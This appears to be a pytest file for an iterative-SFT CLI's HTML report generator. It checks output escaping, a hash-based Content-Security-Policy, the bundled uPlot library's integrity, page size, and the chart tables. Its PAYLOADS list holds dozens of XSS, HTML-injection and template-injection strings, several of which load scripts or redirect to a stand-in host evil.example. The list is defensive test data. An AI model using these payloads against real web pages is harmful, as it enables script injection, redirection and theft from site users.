"""`isft report`: the page says what the run says, no text of the run can change it, and it stays small."""

from __future__ import annotations

import base64
import hashlib
import json
import math
import re
from html.parser import HTMLParser

import pytest
import report_runs
from report_runs import call

from iterative_sft_cli import Run
from iterative_sft_cli.report import html
from iterative_sft_cli.report.charts import Line, funnel_chart, line_chart, stacked_bars
from iterative_sft_cli.report.page_data import pick_samples

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</p></article><form action=//evil.example><input name=x>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;<b>bold</b>",
    "{{ 7 * 7 }}",
    "{% for x in [1] %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "<%= 7*7 %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u202e\u2066evil\u2069",
    "\x00<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "\u2028\u2029<b>",
    "\x1b[31m<i>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "x" * 50_000 + "<script>alert(1)</script>",
]


class Tags(HTMLParser):
    """Every tag of a page with the names of its attributes, and its text."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = [], set(), []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


def hostile(tmp_path, payload):
    """A run in which every text that others write is `payload`."""
    run = report_runs.write_large(tmp_path / "run", 16)
    folder = run / "rounds" / "0001"
    rows = [json.loads(line) for line in (folder / "generated-00000.jsonl").read_text().splitlines()]
    said = [json.loads(line) for line in (folder / "verdicts-00000.jsonl").read_text().splitlines()]
    asked = [json.loads(line) for line in (folder / "prompts.jsonl").read_text().splitlines()]
    for row in asked:
        row |= {"prompt": payload, "answer": payload}
    for row in rows:
        row |= {"completion": payload, "finish_reason": payload}
    for row in said:
        for says in row["says"]:
            says |= {"filter": payload, "reason": payload, "extra": {payload: payload}}
    report_runs.write_shard(run, 1, "prompts", asked, {})
    report_runs.write_shard(run, 1, "generated-00000", rows, {"weights": payload, "plan": {payload: payload}})
    report_runs.write_shard(run, 1, "verdicts-00000", said, {})
    stats = {"round": 1, f"filters/{payload}/entered": 16, f"filters/{payload}/dropped": 12}
    stats |= {f"filters/{payload}/reason/{payload}": 12, "filters/num_accepted": 4, "filters/accept_rate": 0.25}
    (run / "stats.jsonl").write_text(json.dumps(stats) + "\n")
    ledger = {"round": 1, "event": "skipped", "reason": payload}
    (run / "ledger.jsonl").write_text(json.dumps(ledger) + "\n")
    return Run.open(run)


ALLOWED = (
    "html head meta title style body h1 h2 h3 p span div b table tr th td section noscript "
    "details summary input select option article header pre footer script"
).split()


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_text_of_a_run_becomes_markup(tmp_path, payload):
    page = html.render(hostile(tmp_path, payload))
    page.encode("utf-8")
    found = Tags(page)
    assert set(found.tags) <= set(ALLOWED), set(found.tags) - set(ALLOWED)
    assert found.tags.count("style") == found.tags.count("body") == 1 and found.tags.count("script") == 3
    assert not {
        name for _, name in found.attributes if name.startswith("on") or name in ("href", "src", "style", "action")
    }
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u2028\u2029\x00\x1b\ud800]", page)
    if payload.isprintable() and len(payload) < 100:
        assert payload in "".join(found.text)


def test_the_page_allows_its_own_style_and_scripts_and_nothing_else(done):
    page = html.render(Run.open(done))
    [policy] = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    policy = policy.replace("&#39;", "'")
    assert "default-src 'none'" in policy and "unsafe" not in policy and "http" not in policy
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    for tag, count in (("style", 1), ("script", 3)):
        bodies = re.findall(f"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        digests = [base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() for body in bodies]
        assert len(bodies) == count and rules[f"{tag}-src"].split() == [f"'sha256-{digest}'" for digest in digests]
    addresses = re.findall(r"\w+://[^\s'\"]+", re.sub(r"<pre>.*?</pre>", "", page, flags=re.DOTALL))
    assert addresses == ["https://github.com/leeoniya/uPlot"]


def test_the_library_comes_with_its_licence_and_as_it_was_published(done):
    page = html.render(Run.open(done))
    library = html.PAGE / "uplot"
    version = re.findall(r"\(v([\d.]+)\)", (library / "uPlot.iife.min.js").read_text())
    assert version == ["1.6.32"] and version[0] in (library / "README.md").read_text()
    assert (library / "LICENSE").read_text().strip() in page
    for name, digest in (
        ("uPlot.iife.min.js", "19c8d4c6ad88929a79f4ae49d6f7161566dfd0ba3d15cc495e974f787eb78f1f"),
        ("uPlot.min.css", "df630c6a8d6f8eeaff264b50f73ce5b114f646ffd9a0bb74f049b0a00135fa04"),
    ):
        assert hashlib.sha256((library / name).read_bytes()).hexdigest() == digest


def test_the_page_shows_what_the_run_holds(done, tmp_path, capsys):
    code, out, err = call(capsys, "report", done, "-o", tmp_path / "deep" / "page.html")
    assert code == 0 and out.strip() == str(tmp_path / "deep" / "page.html") and "kB" in err
    page = (tmp_path / "deep" / "page.html").read_text("utf-8")
    text = " ".join("".join(Tags(page).text).split())
    assert "complete, 3 of 3 rounds" in text and page.count('class="chart"') == 13
    for word in (
        "Held-out accuracy",
        "Why samples were dropped",
        "Difficulty",
        "Diversity",
        "Training loss",
        "Time",
        "numeric_answer: wrong_answer",
        "trained from checkpoint 0002",
        "learning_rate: 0.1",
        "toy-base",
        "filters/accept_rate",
    ):
        assert word in text, word
    assert page.count('<article class="sample') == 60 and page.count('<article class="sample kept"') >= 24
    assert not list((tmp_path / "deep").glob(".*"))


def test_the_samples_show_every_reason(done):
    run = Run.open(done)
    for index in run.rounds:
        stored = pick_samples(run, index, 20)
        reasons = {one.rejected_by["reason"] for one in run.iter_samples([index]) if not one.accepted}
        assert len(stored) == 20 and {one.rejected_by["reason"] for one in stored if not one.accepted} == reasons
        assert 8 <= sum(one.accepted for one in stored) <= 12


def test_ten_rounds_of_long_texts_stay_under_a_megabyte(tmp_path):
    run = report_runs.write_large(tmp_path / "run", 64)
    rows = [json.loads(line) for line in (run / "rounds/0001/generated-00000.jsonl").read_text().splitlines()]
    said = [json.loads(line) for line in (run / "rounds/0001/verdicts-00000.jsonl").read_text().splitlines()]
    asked = [json.loads(line) for line in (run / "rounds/0001/prompts.jsonl").read_text().splitlines()]
    for row in rows:
        row["completion"] = "<&>" * 4000
    for index in range(1, 11):
        report_runs.write_shard(run, index, "prompts", asked, {})
        report_runs.write_shard(run, index, "generated-00000", rows, {"weights": "w"})
        report_runs.write_shard(run, index, "verdicts-00000", said, {})
    steps = [{"round": 1, "event": "step", "step": n, "loss": 1 / n, "learning_rate": 0.1} for n in range(1, 30_000)]
    (run / "ledger.jsonl").write_text("".join(json.dumps(row) + "\n" for row in steps))
    page = html.render(Run.open(run))
    assert page.count("<article") == 200 and len(page.encode()) < 1_000_000


def test_a_run_that_has_just_begun(tmp_path, capsys):
    run = report_runs.write_large(tmp_path / "run", 0)
    assert call(capsys, "report", run)[0] == 0
    page = (run / "report.html").read_text("utf-8")
    assert "No round is finished yet." in page and "No judged samples yet." in page
    assert call(capsys, "report", tmp_path / "nowhere")[0] == 4


def test_every_chart_has_its_values_as_a_table(done):
    run = Run.open(done)
    page = html.render(run)
    for row in run.stats:
        low, high = row["eval/pass@1_low"], row["eval/pass@1_high"]
        assert f"<td>{row['eval/pass@1']:.4g} ({low:.4g} to {high:.4g})</td>" in page
    assert page.count("<summary>values") == page.count('<section class="panel">') == 10


def test_charts():
    lines = [
        Line("a\u202e", [(0, None), (1, 2.0), (2, 3.0)], [(1, 1.5, 2.5), (2, 2.0, 4.0)]),
        Line("b", [(1, math.nan)]),
    ]
    chart = line_chart(lines, what="w", y_name="y")
    data = json.loads(chart.data)
    assert data["x"] == [1, 2] and data["values"] == [[2, 3], [None, None]] and "\u202e" not in data["names"][0]
    assert data["bands"] == [[[1.5, 2.5], [2, 4]], [None, None]]
    assert chart.heads == ["round", "a\u202e", "b"]
    assert chart.rows == [["1", "2 (1.5 to 2.5)", "-"], ["2", "3 (2 to 4)", "-"]]
    assert line_chart([], what="", y_name="") is None
    assert line_chart([Line("a", [(1, None)])], what="", y_name="") is None
    assert stacked_bars([(1, [0, 0])], ["a", "b"], what="", y_name="") is None and funnel_chart([], "") is None
    bars = stacked_bars([(1, [3, 0]), (2, [1, 2.5])], ["a", "b"], what="", y_name="")
    assert bars.values == [[3, 1], [0, 2.5]] and bars.rows == [["1", "3", "0"], ["2", "1", "2.5"]]
    funnel = json.loads(funnel_chart([("<i>", 4, 1)], "").data)
    assert funnel["x"] == ["<i>"] and funnel["values"] == [[4], [1]]


def test_a_table_of_many_points_shows_some_of_them():
    chart = line_chart([Line("loss", [(x, 1 / x) for x in range(1, 401)])], what="", y_name="", x_name="step")
    assert chart.every == 7 and len(chart.rows) == 58 and len(json.loads(chart.data)["x"]) == 400
